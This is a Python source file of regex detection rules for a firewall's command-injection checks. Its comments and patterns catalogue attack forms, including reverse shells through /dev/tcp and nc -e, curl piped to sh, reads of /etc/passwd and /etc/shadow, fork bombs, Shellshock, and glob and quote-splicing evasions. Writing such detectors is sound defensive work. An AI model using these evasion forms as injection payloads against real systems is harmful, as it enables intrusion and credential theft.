"""Attack classes of the linux-posix/windows managed rule group(s): what each matches, and why.

See ``ruleclass.py`` for the conventions every regex here follows.

Three shapes of command injection, from the most to the least context:

1. *After a shell separator* (``; | && $( `` newline): the value was appended to a command line.
   A command word then an argument shape (option, path, host, end) is enough.
2. *A whole value that is a command line* (``cat /etc/passwd``, ``ls -la``, ``curl x.example``):
   the app runs the field as a command. Here the word alone proves nothing ("cat food", "time to
   go", "find a store"), so the *arguments* decide: options (``-la``, ``--version``), paths into
   system directories, pipes and redirections, hosts and IPs for network tools. A value starts
   at the start of a field, after ``=`` / ``&`` (query and form), ``"`` (JSON, XML attribute),
   ``>`` (XML text) or a newline.
3. *Shell syntax with no command word needed*: expansions and globbing that spell a path or a
   command without its letters (``/e??/p[a]sswd``, ``c$@at``, ``$IFS``), tilde and history
   expansion as a whole value (``~+``, ``!-2``), function definitions (Shellshock, fork bombs).
"""

from __future__ import annotations

from ruleclass import SP, I, RuleClass, alt_whitespace_all

# Where a value starts once the chain decoded it (see 2. above), and where it ends.
VS = r"(?:^|[=&\n>\"])\s*"
VE = r"\s*(?:$|[&\"<])"
# The same in a URL path too (shell syntax classes inspect path segments).
VSX = r"(?:^|[=&\n>\"/])\s*"
VEX = r"\s*(?:$|[&\"</])"
# An optional quote around a command word (the CMD chain removes them, but it also turns ";"
# into a space, so separator-led rules quote-tolerate in DEC instead).
Q = r"[\"']?"

# A path segment mixing letters and glob wildcards ("e?c", "?asswd", "p*wd").
_GLOB_SEG = r"(?:[a-z]+[?*][a-z?*]*|[?*]+[a-z][a-z?*]*)"

# Shell globbing and parameter expansion used to spell a path or command without its letters.
_SHELL_EXPANSION = (
    I + r"[a-z]\$(?:\{[a-z_]{0,10}\}|@|\*|[a-z_]{0,10}\$)[a-z/]|[a-z/]\$\{?ifs",
    # Process substitution <(cmd) / >(cmd) after a space or an operator, not a tag's end
    # ("<v>(function(){…})()" in XML text).
    I + r"(?:^|[\s=;|&(])[<>]\(\s*[a-z]{2,}[^)]*\)|\[[?*]\][a-z]|[a-z]\[[?*]\]",
    # Parameter expansion with an operator (``${PATH:0:1}``, ``${x:-id}``, ``${HOME%/*}``); a colon
    # then a word is a Debian substitution variable (``${misc:Depends}``, ``${source:Version}``).
    I + r"/s?bin/[a-z?*]*\[[a-z!^?*\-]{1,10}\]|/[a-z?*]+\[[a-z!^?*\-]{1,20}\][a-z?*]*/|/\[[a-z!^?*\-]{1,20}\][a-z?*]+/|/(?:[a-z]*[?*][a-z?*]*/){1,}[a-z?*]*(?:sh|passwd|shadow|id)\b|/\?\?\?/|\$\[\s*\d+\s*[+*/-]\s*\d+\s*\]|\$\{[a-z_]*(?:[#%]|:[^a-z}])[^}]*\}|\$\{![a-z_]|\{,?(?:/[a-z?*]*[?*][a-z?*]*)+,|\{,?\$?[\"']?[a-z]+[\"']?,[-/~$][^}]*\}|\{,[\w$'\"]|[a-z]\{[a-z]+,[a-z,]*\}[a-z]",
    # A bracket glob inside a path segment, letters on both sides: /etc/pa[s]swd, /etc/[!q]asswd,
    # /etc/[m-z]asswd, /[e//]tc (slashes inside the class are ignored by the shell). Next.js
    # routes (/pages/[id]/edit, /[slug].tsx) pass: a "/" or "." follows their bracket.
    I + r"/[a-z0-9_.-]*\[[!^]?[a-z0-9](?:-[a-z0-9]|[a-z0-9]{0,4})/*\][a-z0-9_]",
    # Command substitution as a whole value ($(cmd), "$(cmd)") or with an argument shape inside;
    # jQuery's $(document).ready / $(this); pass (a "." or ";" follows, no argument inside).
    I + VSX + r"\$\(\s*[a-z][\w.-]*\s*\)" + VEX + r"|\$\(\s*[a-z][\w.-]*" + SP + r"+(?:-{1,2}[a-z]|/[a-z]|~/|https?://)",
    # Arithmetic expansion $((...)) and the old $[...] form, empty or with an operator ($[2+2];
    # the double URL decode may turn "+" into a space). JSONPath $[0] / $['a'] passes.
    I + r"\$\(\(|\$\[\s*\]|\$\[\s*\d+\s*[-+*/%\s]\s*\d+\s*\]",
    # Empty expansions glued inside a word to split it: pi$()ng, ping``, pi<()ng, c$!at, c$_at
    # (">()" glued to a letter only: "<module>()" ends a line of a Python traceback).
    I + r"[a-z]``(?:[a-z]|\s+\d)|[a-z](?:\$\(\)|<\(\))[a-z0-9\s]|[a-z]>\(\)[a-z0-9]|[a-z]\$[!?_-][a-z]",
    # Tilde expansion (~+ is $PWD, ~- $OLDPWD, ~+2 the directory stack) and history expansion
    # (!-1 is the previous command) as a whole value. "~5 minutes" and "wow!!" pass.
    I + VSX + r"(?:~[+-]\d*|~\s|!-\d+(?:\s*!-?\d+)*)" + VEX + r"|(?:^|[\s=])~[+-]/",
    # Shellshock: a value that starts as a bash function definition "() {". JavaScript's
    # "function () {" passes (the value does not start there).
    I + r"(?:^|[=&\"'>:/])\s*\(\s*\)\s*\{",
    # Fork bomb: f(){ f|f& }; :(){ :|:& }; f(){ f & f; } -- a function whose body runs itself
    # twice, piped or backgrounded.
    I + r"[\w:.]+\s*\(\)\s*\{\s*[\w:.]+(?:\(\))?\s*[|&]\s*[\w:.]+(?:\(\))?\s*(?:&\s*;?|;)\s*\}",
    # A command name spread over variables: $c1$c2$c3$c4 (bare variables glued, no text between).
    I + r"(?:\$[a-z_][a-z0-9_]{0,10}){4,}",
    # A path spelled with glob characters in two consecutive segments, each mixing letters and
    # wildcards (/e?c/?asswd, /??c/p*wd, /?in/c?t): the shell expands it to a real file. A URL's
    # "?" starts a query once ("/a?b/c"), and wildcards in docs stand alone ("/api/*/users").
    I + r"/" + _GLOB_SEG + r"/" + _GLOB_SEG + r"(?:$|[/\s&\"'<;|`)])",
    # A whole value that is one unexpanded shell variable, ${cmd} / ${a}: appended to a command
    # line it expands to the server's environment. Template placeholders with a path
    # (${user.name}) or inside text ("price ${total}") pass; the URL path is left out (a client
    # that forgot a JavaScript template literal's backticks sends "/users/${id}").
    I + VS + r"\$\{[a-z_][a-z0-9_]{0,30}\}(?:" + VE + r"|\r?\n)",
    # A pipe into a variable expansion glued to a word: "echo | ${cc}gcc7.4".
    I + r"\|\s*\$\{[a-z_][\w.]{0,30}\}[\w.]",
    # A word spelled one character at a time between empty quotes: ""p""y""t""h""o""n"", 'w''h''o'.
    I + r"(?:\"\"|'')(?:[a-z0-9./-](?:\"\"|'')){4,}",
)


# A shell separator (incl. newline, backtick, $(...)), then a command word used for recon or
# payload delivery, then an argument shape (option, path, variable, end, another separator).
_PREFIX = r"\s*(?:(?:sudo|busybox|nohup|timeout\s+\d+|time|strace|env)\s+)?(?:\\|[\"'])?(?:/(?:usr/)?s?bin/)?"
_SEP = r"(?:[;|]|&&|\$\()" + _PREFIX
# The same separators with the command glued to ";" / "|" (";set", "|cat"), or after "&&" / "$(",
# which prose never writes: there any argument shape, the end of the value included, decides.
_SEP_GLUED = r"(?:[;|]|(?:&&|\$\()\s*)" + _PREFIX.removeprefix(r"\s*")
# A single "&" also separates query and form parameters ("?page=2&more", "&id" is a flag
# parameter), and a line of a text area may be a single word ("Time", "More"): after these a
# command needs an argument shape; only recon tools may end the value there.
_AMP = r"&" + _PREFIX
_NL = r"[\n\r]" + _PREFIX
_RECON_END = "whoami|ifconfig|ipconfig|netstat|printenv|uname|getent|aptitude|apt-get|mkfifo|visudo"
# Command names that are no English word (for the places where prose could put an English one).
_TOOL_WORDS = (
    "whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|nc|ncat|netcat|telnet|bash|zsh|ksh|sh"
    "|python[23]?|perl|php|chmod|chown|crontab|mkfifo|socat|base64|xxd|getent|systemctl|pkill|killall"
    "|ls|ps|pwd|uptime|hostname|lsof|printenv|htop|nmap|busybox|ssh|scp|tftp|sudo"
)
_CMD_WORDS = (
    "whoami|uname|ifconfig|netstat|nslookup|wget|curl|nc|ncat|netcat|telnet|bash|zsh|ksh",
    "dash|csh|tcsh|sh|python|python2|python3|perl|ruby|php|lua|node|chmod|chown|chattr|useradd|usermod|crontab",
    "mkfifo|socat|tftp|base64|xxd|hexdump|getent|systemctl|killall|pkill|passwd|id|ls|pwd|ps|cat|tac",
    "nl|head|tail|rm|cp|mv|awk|gawk|sed|find|grep|dd|env|printenv|echo|printf|sleep|ping|kill|touch",
    "more|less|uptime|hostname|w|who|last|lsof|df|mount|tar|zip|unzip|gzip|openssl|ssh|scp|ftp|dig",
    "host|traceroute|iptables|export|set|eval|exec|source|xargs|tee|trap|cd|column|base32|rev|time",
    "nohup|strace|ltrace|gdb|chroot|setsid|shred|truncate|chmod|ln|diff|cmp|cut|sort|uniq|tr|od|strings",
    "lastlog|htop|vmstat|dmesg|lsblk|lscpu|lsmod|arp|finger|pinky|uconv|ll|vim|rmt",
    # Package managers an intruder installs tools with.
    "apt|apt-get|aptitude|dpkg|yum|dnf|rpm|apk|pip[23x]?|gem|npm|ssh-copy-id|ssh-keygen|shutdown",
    # Configuration-management, log and recon CLIs an intruder drives; interpreters with a version.
    "ansible(?:-[a-z]+)?|chef-[a-z]+|salt-[a-z]+|visudo|sudoedit|bpftrace|busybox|bsdtar|cpio",
    "lastlogin|lastb|journalctl|cscli|nmap|masscan|zcat|bzcat|xzcat|jrunscript|jjs|tclsh|irb|gcc|perf",
    r"python[23]?\.\d+|(?:php|perl|ruby|node)\d(?:\.\d+)?|gcc\d+(?:\.\d+)?",
)
# Command names that are also English words or common abbreviations. After "; " or " | " (a
# space after the separator) one of them ending the value or followed by prose is a title or a
# sentence ("Chef's Knife | Set", "Tea | Time", "Pros; More", "; set in stone"): there it needs an
# argument shape ("| sleep 5", "; cat /etc/passwd") or a glued pipe. Glued to the separator
# (";set", "|cat") or after "&&" / "$(" it decides as every other command word.
_PROSE_WORDS = frozenset(
    "set time host more less last who w find sort cut head tail touch kill sleep source export eval exec"
    " echo cat mount finger diff column tr od ll rev nl cd ping dig tee trap zip tar node ruby perl python"
    " dash gem strings pinky vim top watch shred shutdown apt"
    # Languages in a lowercase tag list ("skills: java; php; mysql", "lua | python"): an
    # interpreter alone reads stdin, so it needs an argument shape or a glued separator too.
    " php lua".split()
)


def _split_prose(words: str) -> tuple[str, str]:
    """``words`` (an alternation) as (the words no prose uses, the English ones), each an alternation
    ("" when empty)."""
    names = words.split("|")
    return (
        "|".join(w for w in names if w.lower() not in _PROSE_WORDS),
        "|".join(w for w in names if w.lower() in _PROSE_WORDS),
    )


# A pipe ends a command only glued to it ("id|nc"): a markdown table cell is "| id |".
_CMD_END = r"\s*$|\s*[;&)\n]|\||\s*[\"']\s*(?:[,}\]:>/]|$)"
# A command's arguments are on its line: a line break ends the command (a multipart value
# "…;Perl" is followed by "\r\n--boundary", which is no option of perl).
HSP = r"(?:[ \t]|\$\{?ifs\}?|\+)"
_CMD_SHAPE = HSP + r"+(?:-{1,2}[a-z0-9]|/|~|\$|\.{1,2}/|[a-z0-9_.-]+\.(?:sh|py|pl|txt|php|conf)\b|[<>]|\d+\s*(?:$|[;|&`)\n])|[a-z0-9.-]+\.[a-z]{2,}\b|\d{1,3}\.\d{1,3}\.|[\"'][a-z])"
_CMD_ARG = "(?:" + _CMD_END + "|" + _CMD_SHAPE + ")"
# An English command word after a spaced separator with a bare number is a title or a model
# ("Bishop | Time 509 | Steel", "Brand | Less 473 | Size M"): a number counts only after the
# commands that take one (sleep, kill, wait…).
_PROSE_SHAPE = _CMD_SHAPE.replace(r"|\d+\s*(?:$|[;|&`)\n])", "")
assert _PROSE_SHAPE != _CMD_SHAPE
_NUMBER_ARG = "(?:sleep|usleep|kill|wait|timeout)" + Q + SP + r"+\d+\s*(?:$|[;|&`)\n])"
_TOOL_CHUNKS = tuple(tools for tools, _ in map(_split_prose, _CMD_WORDS) if tools)
_PROSE_CMDS = "|".join(prose for _, prose in map(_split_prose, _CMD_WORDS) if prose)
# Quoting the shell removes, spliced into a command word (wh''oami, c\\at, ne""tstat, w'h'o'am'i):
# the shell runs the joined word, and no application receives a command name with quotes or a
# backslash inside it. After a separator the same grammar as the plain word applies, so a plain
# word decides exactly as before. (A character class, not an alternation: it keeps the automaton
# small; c$@at is UNIXShellExpansion's.)
_SPLICE = r"[\\'\"]{0,2}"


def _splice_tolerant(words: str) -> str:
    """An alternation of command names with an optional splice between any two letters (names
    written as regexes, ``python[23]?``, are kept as they are)."""
    return "|".join(
        _SPLICE.join(word) if word.isalnum() else word for word in words.split("|")
    )


# The words attackers splice (few, in one regex on one chain: optional splices between letters
# multiply automaton states, and hyperscan's compile time with them).
_SPLICEABLE = (
    "cat|tac|nl|head|tail|more|less|id|whoami|uname|ifconfig|netstat|nslookup|getent|wget|curl|nc|ncat"
    "|bash|sh|python|python3|perl|php|ping|sleep|echo|ls|ps|env|rm|chmod|base64|busybox|socat|dig|passwd"
)

_SPLICE_TOOLS, _SPLICE_PROSE = _split_prose(_SPLICEABLE)


# Short command names (two or three letters: id, nc, sh, ls, ps, php, nl, cp…) are also the
# codes of states, regions and countries, and pipe-separated data writes them in capitals
# ("Raleigh | NC", "Kiel|SH|24103", "Jakarta | ID", "Amsterdam|NL"). A command name alone after
# a separator (no argument) counts there only when it is not all capitals: a POSIX shell finds no
# "NC" or "ID" (command names are case-sensitive), and with an argument shape ("| NC -e /bin/sh")
# the case still does not matter. Case-sensitive regexes on the DEC and B64 chains (CMD_LINE
# lowercases, so the CMD chain cannot tell: RuleClass.caseful); a mixed-case spelling ("| iD")
# still counts.
def _short(words: str) -> str:
    return "|".join(dict.fromkeys(w for w in words.split("|") if w.isalpha() and len(w) <= 3))


def _long(words: str) -> str:
    return "|".join(w for w in words.split("|") if not (w.isalpha() and len(w) <= 3))


def _not_all_caps(word: str, splice: str = "") -> str:
    """``word`` in any case but all capitals, as a case-sensitive regex: one alternative per
    position of the first lowercase letter (capitals before it, any case after it)."""
    alternatives = []
    for i, ch in enumerate(word):
        parts = [c.upper() for c in word[:i]] + [ch.lower()] + [f"[{c.lower()}{c.upper()}]" for c in word[i + 1:]]
        alternatives.append(splice.join(parts))
    return "|".join(alternatives)


def _caseful(words: str, splice: str = "") -> str:
    """An alternation of ``_not_all_caps`` forms of the short words in ``words`` (interpreters:
    lowercase only, see _INTERPRETERS)."""
    return "|".join(
        _lower_first(w, splice) if w in _INTERPRETERS else _not_all_caps(w, splice)
        for w in _short(words).split("|")
        if w
    )


def _lower_first(word: str, splice: str = "") -> str:
    """``word`` starting with a lowercase letter, any case after it (``pHp``, ``bAsh``; not
    ``Php``, ``PHP``, ``Bash``), as a case-sensitive regex."""
    return splice.join([word[0].lower()] + [f"[{c.lower()}{c.upper()}]" for c in word[1:]])


def _lower_first_all(words: str, splice: str = "") -> str:
    return "|".join(_lower_first(w, splice) for w in words.split("|") if w)


# Interpreters named with no argument (ending the value, or followed by a pipe) are also the
# values of a delimited record's "language" or "skills" column, written as names are written:
# "Thiele;Anholt;Test;Perl", "Java|Python|Bash", "...;Lua", "...;PHP", "…|Awk". An interpreter alone
# reads its script from stdin (a CGI script's stdin is the request body), so "x;bash" and
# "x|perl" still count, but only as a POSIX shell could find them: starting with a lowercase
# letter (command names are case-sensitive; "x;pHp" is an evasion, "Php" a name). With an argument shape ("| Perl -e …", "; Bash -i") the case does not matter.
# These no-argument forms are case-sensitive regexes (RuleClass.caseful: DEC and B64, not CMD,
# whose CMD_LINE lowercases).
_INTERPRETERS = frozenset(
    "bash zsh ksh dash csh tcsh sh fish mksh yash python python2 python3 perl ruby php lua node irb tclsh awk gawk".split()
)


def _no_interp(words: str) -> str:
    """``words`` (an alternation) without the interpreters."""
    return "|".join(w for w in words.split("|") if w not in _INTERPRETERS)


def _interp(words: str) -> str:
    """Only the interpreters of ``words``."""
    return "|".join(w for w in words.split("|") if w in _INTERPRETERS)


def _short_end(tools: str, prose: str, splice: str = "") -> tuple[str, ...]:
    """The short names of ``tools`` / ``prose`` ending a command after a separator, as
    case-sensitive regexes (the separators of _SEP / _SEP_GLUED have lowercase words only)."""
    return (
        _SEP + "(?:" + _caseful(tools, splice) + ")" + Q + "(?:" + _CMD_END + ")",
        _SEP_GLUED + "(?:" + _caseful(prose, splice) + ")" + Q + "(?:" + _CMD_END + ")",
        _SEP + "(?:" + _caseful(prose, splice) + ")" + Q + r"\|",
    )


# ... and "id" / "pwd" alone on a line of a text area (a newline is a command separator too).
_SHORT_LINE = _NL + "(?:" + _caseful("id|pwd") + ")" + Q + "(?:" + _CMD_END + ")"


_LONG_INTERP_TOOLS = _interp(_long("|".join(_TOOL_CHUNKS)))
_LONG_INTERP_PROSE = _interp(_long(_PROSE_CMDS))
# The interpreters' no-argument forms, lowercase (see _INTERPRETERS).
_INTERP_END = (
    _SEP + "(?:" + _lower_first_all(_LONG_INTERP_TOOLS) + ")" + Q + "(?:" + _CMD_END + ")",
    _SEP_GLUED + "(?:" + _lower_first_all(_LONG_INTERP_PROSE) + ")" + Q + "(?:" + _CMD_END + ")",
    _SEP + "(?:" + _lower_first_all(_LONG_INTERP_PROSE) + ")" + Q + r"\|",
    r"\|\s*(?:b[aA]|z|k|d[aA])[sS][hH]\b\s*(?:$|[;&#\"'`)])",
)
_SHORT_END = alt_whitespace_all((*_short_end("|".join(_TOOL_CHUNKS), _PROSE_CMDS), _SHORT_LINE, *_INTERP_END))

_SPLICED = (
    I + _SEP + "(?:" + _splice_tolerant(_SPLICE_TOOLS) + ")" + Q + _CMD_SHAPE,
    I + _SEP + "(?:" + _splice_tolerant(_no_interp(_long(_SPLICE_TOOLS))) + ")" + Q + "(?:" + _CMD_END + ")",
    I + _SEP_GLUED + "(?:" + _splice_tolerant(_SPLICE_PROSE) + ")" + Q + _CMD_SHAPE,
    I + _SEP_GLUED + "(?:" + _splice_tolerant(_no_interp(_long(_SPLICE_PROSE))) + ")" + Q + "(?:" + _CMD_END + ")",
    I + _SEP + "(?:" + _splice_tolerant(_SPLICE_PROSE) + ")" + Q + _PROSE_SHAPE,
    I + _SEP + "(?:" + _splice_tolerant(_no_interp(_long(_SPLICE_PROSE))) + ")" + Q + r"\|",
    # Interpreters with no argument: lowercase only (see _INTERPRETERS).
    _SEP + "(?:" + _lower_first_all(_interp(_long(_SPLICE_TOOLS)), _SPLICE) + ")" + Q + "(?:" + _CMD_END + ")",
    _SEP_GLUED + "(?:" + _lower_first_all(_interp(_long(_SPLICE_PROSE)), _SPLICE) + ")" + Q + "(?:" + _CMD_END + ")",
    _SEP + "(?:" + _lower_first_all(_interp(_long(_SPLICE_PROSE)), _SPLICE) + ")" + Q + r"\|",
    *_short_end(_SPLICE_TOOLS, _SPLICE_PROSE, _SPLICE),
)

_UNIX = (
    *(I + _SEP + "(?:" + words + ")" + Q + _CMD_SHAPE for words in _TOOL_CHUNKS),
    # Short names ending the value: _SHORT_END (case-sensitive, RuleClass.caseful).
    # (Interpreters with no argument: _INTERP_END in _SHORT_END, lowercase.)
    *(I + _SEP + "(?:" + _no_interp(_long(words)) + ")" + Q + "(?:" + _CMD_END + ")" for words in _TOOL_CHUNKS if _no_interp(_long(words))),
    I + _SEP_GLUED + "(?:" + _PROSE_CMDS + ")" + Q + _CMD_SHAPE,
    I + _SEP_GLUED + "(?:" + _no_interp(_long(_PROSE_CMDS)) + ")" + Q + "(?:" + _CMD_END + ")",
    I + _SEP + "(?:" + _PROSE_CMDS + ")" + Q + _PROSE_SHAPE,
    I + _SEP + _NUMBER_ARG,
    I + _SEP + "(?:" + _no_interp(_long(_PROSE_CMDS)) + ")" + Q + r"\|",
    *(I + "(?:" + _AMP + "|" + _NL + ")(?:" + words + ")" + Q + _CMD_SHAPE for words in _CMD_WORDS),
    I + _AMP + "(?:" + _RECON_END + ")" + Q + "(?:" + _CMD_END + ")",
    # ("id" / "pwd" alone on a line: _SHORT_END, case-sensitive: a checklist line "ID" is no command.)
    I + _NL + "(?:" + _RECON_END + "|hostname|uptime|lsof|dmesg)" + Q + "(?:" + _CMD_END + ")",
    # Command substitution. Backticks also delimit markdown inline code, so only recon words there.
    I + r"\$\(\s*(?:/(?:usr/)?s?bin/)?(?:whoami|id|uname|hostname|ifconfig|nslookup|sleep|cat|ls|echo|curl|wget|nc|bash|sh|pwd|env|printenv|base64|ping|dig|host|ps|expr|printf|head|tail|rm)\b[^)]*\)",
    I + r"`\s*(?:/(?:usr/)?s?bin/)?(?:whoami|id|uname|hostname|ifconfig|nslookup|sleep\s+\d+|nc\s+-|cat\s+/etc/|curl\s+[^`]*\|\s*sh)\s*`",
    I + r"\b(?:cat|tac|more|less|head|tail|nl|strings|xxd|od|base64|curl|wget|grep|awk|sed|cp|vi|vim|nano|file|stat)" + SP + r"+(?:-[a-z]+" + SP + r"+)*[^\s;|&]*/etc/(?:passwd|shadow|group|hosts|sudoers|issue|crontab)\b",
    I + r"\b(?:bash|sh|zsh|ksh|dash)" + SP + r"+-[a-z]*c\b|\$\{?shell\}?" + SP + r"+-[a-z]*c\b|\b(?:bash|sh)" + SP + r"+-i\b|/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)" + SP + r"+(?:-[a-z]+" + SP + r"+)*(?:-e|-c)\b|\bmkfifo\s|\b(?:curl|wget)" + SP + r"+[^\s]*\|\s*(?:ba)?sh\b",
    I + r"\$\{?ifs\}?|\$\{[a-z_]+:\d+:\d+\}|\b(?:cat|ls|id|cp|rm)\$\{?[a-z_@*]{0,10}\}?(?:\s|/|-)|\{(?:cat|ls|id|wget|curl|nc|bash|sh|echo|rm),|\{[\w$\\./-]+,-[a-z]",
    # A variable glued to a command word to split it, then an option: uname$u -a, cat${x} -n.
    I + r"[a-z]{2,}\$\{?[a-z_]\w{0,10}\}?" + SP + r"+-{1,2}[a-z]",
    I + r"(?:^|[;|&`\s(])(?:/usr)?/bin/(?:ba|z|k|da|c)?sh\b|/bin/(?:cat|ls|id|nc|busybox|echo|uname)\b",
    # A here-string feeding a command (tr a b <<< 'x', ;irb<<<1+2, ;gcc10.1<<<'...'), and "cd" to
    # the root or up, chained to the next command.
    I + r"[a-z]\s*<<<\s*[\"'$]?[a-z]|(?:^|[;|&`(=\n])\s*[a-z][\w.-]*\s*<<<\s*[\"'$]?[\w(]|(?:^|[;|&`(=])\s*cd\s+(?:/|\.\.)[^;|&\s]*\s*[;|&]+\s*(?:cd\b|[a-z]+\s)",
    # Any word after ";", "&&", "||" or "$(" taking a GNU long option (;rmt --version,
    # ;'perf' --version): a command line whatever the command. Prose dashes ("a -- b") pass, and
    # "|" is left out because markdown tables use it ("| Use --force |").
    I + r"(?:;|&&|\|\||\$\()\s*" + Q + r"[a-z][\w.+-]{1,30}" + Q + HSP + r"+--[a-z][a-z-]{2,}(?:=|\s*$|\s*[;|&]|" + HSP + r"+(?:-|/|\.|~|\d|[\w.-]+\.[a-z]{2,}\b))",
    # A variable used as the command: ;$a cat x, a=nc&&$a -nlvp 555, |$u wget x. PHP's
    # "$a = 1; $b = 2;" passes (an "=" follows the variable, not an argument).
    # After a backtick only $name: "`${a} and ${b}`" is a JavaScript template literal.
    I + r"(?:[;|]|&&)\s*\$\{?[a-z_][a-z0-9_]*\}?" + SP + r"+[a-z$/~-]|`\s*\$[a-z_][a-z0-9_]*" + SP + r"+[a-z$/~-]",
    # Output piped into a shell, a subshell "(sh)", a reverse shell to /dev/tcp spelled through a
    # variable ((sh)0>$d/tcp/1.2.3.4/777), stderr merged into stdout, output thrown away.
    # (A bare "| SH" ending the value is pipe-separated data: _SHORT_END decides it; "2>&1" must
    # end a command: "2>&1 meaning" is a search.)
    I + r"\|\s*(?:ba|z|k|da)sh\b[ \t]+-|[;&|]\s*\(\s*(?:ba|z|k|da|c)?sh\s*\)|/(?:tcp|udp)/\d{1,3}(?:\.\d{1,3}){3}/\d+|\b[12]\s*>\s*&\s*[12]\s*(?:$|[;&|)`\"'\n])|>\s*/dev/null\b",
    I + r"\|\s*sh\b\s*(?:[;&#\"'`)]|\s+-)",
    # chmod with a mode and a file: chmod +x x.php, chmod 777 /tmp/x, chmod u+s x. A bare word
    # followed by more words is prose ("then chmod +x on it").
    I + r"\bchmod\s+(?:-[a-z]+\s+)*(?:[ugoa]*[+=-][rwxst]+|[0-7]{3,4}|[rwxst]{1,3})\s+(?:[/~.$*\"'\\]|[^\s;|&]*[/.*]|[\w-]+\s*(?:$|[;|&)`\n]))",
    # alias / unalias: redefining a command name (alias ls='rm -rf ~', alias -p x=id).
    I + r"(?:^|[=;&|\n\"'>`(/])\s*alias\s+(?:[-+]?[a-z]{1,4}\+?\s+)?[\"']?[\w.-]+[\"']?=|(?:^|[=;&|\n\"'>`(/])\s*unalias\s+(?:-a\b|[\w.-]+\s*(?:$|[;&|\"<]))",
    # sqlite3's shell dot-commands after a newline (literal "\n" too): .shell / .system run
    # programs.
    I + r"(?:[;\n]|\\n)\s*\.(?:(?:shell|system)\s+\S|(?:databases|tables|dump|schema)\s*$)",
    # A value that starts with separators then a command word ("=;top x", "; ;id"; an English
    # word glued to the last separator: "; set in stone" is prose), and a
    # separator glued to a command that is no English word after a space (" ;whoami"): prose
    # puts the space after the semicolon; CSS (";top:0") has a colon after the word.
    I + VS + r"(?:(?:;|&&|\|\|)\s*)+" + Q + "(?:" + "|".join(_TOOL_CHUNKS) + r"|htop|sudo)" + Q + r"(?:\s|$)",
    I + VS + r"(?:(?:;|&&|\|\|)\s*)*(?:;|\|\||&&\s*)" + Q + "(?:" + _PROSE_CMDS + r"|top|watch)" + Q + r"(?:\s|$)",
    I + r"\s(?:;|&&|\|\|)" + Q + "(?:" + _TOOL_WORDS + r")" + Q + r"(?:\s|$)",
    # ssh-family tools after a separator with a user@host argument (;ssh-copy-id user@server).
    I + r"(?:[;|]|&&\s*|\|\|\s*|\$\(\s*)(?:ssh|scp|sftp|ssh-copy-id|rsync|mosh|telnet)" + SP + r"+(?:-[a-z0-9]+" + SP + r"+(?:[\w.-]+" + SP + r"+)?)*[\w.-]+@[\w.-]+",
    # "at" scheduling a job, chained at the start of a value (;at 2:00 "x", &&at now).
    I + VS + r"(?:;|&&|\|\|?)at" + SP + r"+(?:\d{1,2}(?::\d{2})?(?:am|pm)?|now|midnight|noon|teatime|tomorrow)\b",
    # A variable assigned then used inside the next command word: v='u';cu$v\r\l x.example.
    I + VS + r"[a-z_]\w{0,20}=(?:'[^'\n]*'|\"[^\"\n]*\"|[\w./-]*);\s*[a-z]+\$\{?[a-z_]\w*\}?",
    # ps with its usual BSD / System V option words after a separator ("; ps aux", "|ps -ef"), and a
    # recon command after " & " at the end of the value (a parameter separator has no space).
    # ("| ps aux |" with spaces is a markdown table cell).
    I + r"(?:(?:[;`]|&&|\|\||\$\()\s*|\|)ps" + SP + r"+(?:aux|axu|auxf?w*|-?ef[lh]?|-e)\b",
    I + r"&\s+(?:id|whoami|uname|ifconfig|ipconfig|hostname|pwd|printenv|netstat)\s*(?:$|[;&|\"])",
    # expr doing arithmetic after a separator (a blind-injection probe: "; expr 7 \* 7").
    I + r"(?:[;|`]|&&|\$\()\s*expr" + SP + r"+\d+" + SP + r"*\\?[-+*/%]" + SP + r"*\d+",
    # Two backticked commands glued together: `cut x``dig y`.
    I + r"`[a-z][\w.-]*[ \t][^`\n]*``[a-z][\w.-]*(?:[ \t][^`\n]*)?`",
    # vi/vim/ex escaping to a shell: "-c:!pwd", "silent\ \!whoami" (":!cmd" runs cmd).
    I + r"\\!\s*(?:whoami|pwd|id|sh|bash|ls|cat|uname|nc|curl|wget|ps|env)\b|(?:^|[;|&\s])(?:vi|vim|nvim|ex|view)\s+(?:\S+\s+)?-c\s*:\s*\\?!",
)
_UNIX_CMDLINE = (
    # The same grammar after CMD_LINE removed quoting tricks (w'h'o'am'i, c\at, c^at; ";" is a
    # space there): recon commands, and a file reader aimed at a system file.
    # Recon words that take no argument must end the value or meet a separator there ("whoami
    # meaning", "ifconfig not found" pass).
    I + r"(?:^|[\s|&`(=])(?:uname\s*-[a-z]|netstat\s*-|nslookup\s|wget\s*(?:https?|ftp|-[a-z0-9]{1,2}(?:\s|$|[-=])|--[a-z])|curl\s*(?:-[a-z0-9]{1,2}(?:\s|$|[-=])|--[a-z]|https?)|ncat\s|netcat\s|getent\s|crontab\s*-|mkfifo\s)|(?:^|[\s|&`(=])(?:whoami|ifconfig|printenv)\s*(?:$|[|&`)<])",
    I + r"\b(?:cat|tac|more|less|head|tail|nl|grep|awk|sed|base64|base32|xxd|strings|od|column|rev|cut|sort|uniq|diff)(?:\s|\$\{?ifs\}?|<)*[^\s]*/etc/(?:passwd|shadow|group|hosts|sudoers)\b",
    I + r"(?:^|[\s|&`(])(?:nc|ncat|netcat)\s+(?:-[a-z]+\s+)*-[a-z]*[ec]\s",
    # A network tool aimed at this machine or an address, once quotes are removed ('c'url
    # localhost, "w"get 10.0.0.1): "curl up with a book" names no host.
    I + r"(?:^|[=&\n>])\s*(?:curl|wget|ncat|netcat|nc|telnet|tftp|nslookup|ping|ssh)\s+(?:-[a-z0-9]+\s+)*(?:localhost|\d{1,3}(?:\.\d{1,3}){3})(?:[:/\s]|$)",
    # A command prefix (time, nohup, strace...) quoted apart, then a network or recon tool:
    # ti''me curl x, "time" who am... (after unquoting).
    I + r"(?:^|[=&\n>])\s*(?:time|nohup|strace|ltrace|sudo|doas|nice|timeout\s+\d+)\s+(?:curl|wget|ncat|netcat|ifconfig|ipconfig|whoami|uname|bsdtar|busybox|nmap|netstat|nslookup)\b",
)

# --- A whole value that is a command line (shape 2). -----------------------------------------
# Commands that are also English words or common abbreviations: only options, system paths,
# pipes or redirections make them a command ("cat /etc/passwd", "ls -la", "find / -name x",
# "tail -f x | grep y"), never a plain word after them ("cat food", "find a store").
_BARE_WORDS = (
